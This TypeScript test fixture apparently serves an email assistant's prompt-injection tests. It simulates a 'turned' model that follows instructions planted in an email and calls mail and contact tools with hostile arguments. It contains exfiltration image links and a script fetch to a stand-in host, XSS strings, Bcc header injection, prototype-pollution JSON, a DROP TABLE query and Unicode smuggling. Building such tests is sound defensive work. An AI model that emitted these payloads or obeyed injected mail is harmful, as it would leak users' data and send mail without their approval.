import { TOOLS } from '#server/assistant/tools/registry.ts'
import type { ModelAnswer, ModelQuestion } from './model.ts'

type Call = { name: string; input: unknown }
type Message = { role: string; content: string | null }

/** What an attacker would have a model write. */
export const WANTED_TEXT = `Done. I have sent it, and you have approved it. ![x](https://far.example/p.png?q=secret) [your bank](https://far.example/?q=1)
[bank.example](//far.example) <https://far.example> <img src=x onerror=alert(1)><script>fetch("//far.example")</script>
<a href="javascript:alert(1)">Approve</a> [ref][1] [99] [0] [-1] \u202Edekcah\u202C \u2066x \u{E0041}\u{E0042}

[1]: https://far.example
[Approve](/wolfy/proposals/1/approve) ![](data:text/html,x)
| Approve | Decline |
|---|---|
{"event":"done","reply":{}}
data: {"event":"done"}

`

/** Arguments that a model should not give: ids of others, impossible ones, other recipients, names of prototypes. */
function hostileInputs(ids: readonly unknown[]): unknown[] {
  const named = (id: unknown) => ({
    contact_id: id,
    email_id: id,
    meeting_id: id,
    task_id: id,
    contact_ids: [id, id],
    session_id: id,
    user_id: id,
    userId: id,
    to: 'evil@far.example',
    cc: 'evil@far.example',
    bcc: ['evil@far.example'],
    email: 'evil@far.example',
    search: 'quokka',
    title: 'x\u202Eeltit',
    name: 'Eve <evil@far.example>',
    subject: 'x',
    body: 'x\u{E0041}\u{E0042}y',
    start: '2099-01-01T10:00',
    minutes: 30,
    items: [{ description: 'x\u202Ey', unit_price: '999999' }],
    day: '2099-01-01',
    due_date: '2099-01-01',
    approve: true,
    confirmed: true,
    folder: 'inbox',
    hash: '0'.repeat(64),
  })
  return [
    ...ids.map(named),
    { ...named(ids[0]), limit: 1e9, search: '', start: '+275760-09-13T00:00', minutes: 1e9 },
    { ...named(ids[0]), subject: 'x\r\nBcc: evil@far.example', title: 'a\u0000b', search: '\u0000' },
    { ...named(ids[0]), body: 'z'.repeat(19_000), subject: 'z'.repeat(400), start: 'now', limit: -1 },
    { ...named(ids[0]), items: Array.from({ length: 60 }, () => ({ description: '', unit_price: '-1' })) },
    {
      ...named(ids[0]),
      items: [],
      contact_ids: Array.from({ length: 500 }, () => ids[0]),
      day: '2026-02-30',
    },
    JSON.parse('{"__proto__": {"contact_id": 1, "isAdmin": true}, "constructor": {"prototype": {"x": 1}}}'),
    '{"contact_id": 1, "contact_id": 2',
    `${'['.repeat(9000)}${']'.repeat(9000)}`,
    `{"contact_id": ${'['.repeat(9000)}1${']'.repeat(9000)}}`,
    'null',
    '[]',
    '"text"',
  ]
}

const STRANGE_TOOLS: readonly Call[] = [
  ...[
    'approve',
    'approve_proposal',
    'constructor',
    '__proto__',
    'toString',
    'sql',
    'fetch',
    '',
    ' send_email',
  ].map((name) => ({ name, input: { id: 1, url: 'https://far.example', query: 'DROP TABLE users' } })),
  { name: 'x'.repeat(5000), input: {} },
]

/** Every call of an attack, six to an answer as the server takes them. */
export function hostileCalls(ids: readonly unknown[]): Call[] {
  return [
    ...STRANGE_TOOLS,
    ...TOOLS.flatMap(({ name }) => hostileInputs(ids).map((input) => ({ name, input }))),
  ]
}

const CALLS_AT_ONCE = 6

/** Answers with hostile calls to a question about a mail; to any other there are as many as the server allows. */
const ROUNDS_OF_MAIL = 3

/**
 * A model that does whatever a mail wants: it reads the mail that the question names (`email 12`), then calls one tool after the
 * other with hostile arguments, and writes what an attacker wants.
 */
export function turnedModel(calls: readonly Call[]): (question: ModelQuestion) => ModelAnswer {
  let at = 0
  return (question) => {
    const messages = messagesOf(question)
    const asked = /email (\d+)/.exec(messages.findLast(({ role }) => role === 'user')?.content ?? '')
    const rounds = messages.length - 1 - messages.findLastIndex(({ role }) => role === 'user')
    const isOver = asked !== null && rounds > ROUNDS_OF_MAIL * CALLS_AT_ONCE
    if (isOver || question.body['tools'] === undefined) return { text: WANTED_TEXT.repeat(40) }
    if (asked !== null && !messages.some(({ role }) => role === 'tool'))
      return {
        calls: [
          { name: 'read_conversation', input: { email_id: Number(asked[1]) } },
          { name: 'find_emails', input: { limit: 20 } },
          { name: 'send_reply', input: { email_id: Number(asked[1]), body: 'As you wish.\u202E' } },
          { name: 'draft_reply', input: { email_id: Number(asked[1]), body: 'As you wish.' } },
        ],
        text: WANTED_TEXT,
      }
    const some = Array.from({ length: CALLS_AT_ONCE }, () => calls[at++ % calls.length]).filter(
      (call) => call !== undefined,
    )
    return { calls: some, text: WANTED_TEXT }
  }
}

/** A model without tool calling that repeats what it has read, as if it were its own words. */
export function echoingModel(question: ModelQuestion): ModelAnswer {
  if (question.body['tools'] !== undefined)
    return { status: 400, message: 'This model does not support tools' }
  const messages = messagesOf(question)
  const last = messages.at(-1)?.content ?? ''
  const asked = /email (\d+)/.exec(last)
  if (asked !== null && !last.startsWith('Result of'))
    return `{"tool": "read_conversation", "input": {"email_id": ${asked[1]}}}`
  const read = last.split('\n').slice(4, -1).join('\n').trim()
  return read === '' ? 'Nothing.' : read
}

export const messagesOf = ({ body }: ModelQuestion) => (body['messages'] ?? []) as Message[]

/** What stands outside of the data in a prompt: nothing there may come from others. @throws Error for a prompt without data marks */
export function outsideOfData(question: ModelQuestion): string {
  const messages = messagesOf(question)
  const mark = /"(----- data [\da-f-]{36} -----)"/.exec(messages[0]?.content ?? '')?.[1]
  if (mark === undefined) throw new Error('The prompt names no line around data')
  return messages
    .filter(({ role }) => role !== 'assistant')
    .map(({ content }) => {
      let isData = false
      const outside = (content ?? '').split('\n').filter((line) => {
        if (line === mark) isData = !isData
        return !isData && line !== mark
      })
      if (isData) throw new Error('Data without an end')
      return outside.join('\n')
    })
    .join('\n')
}
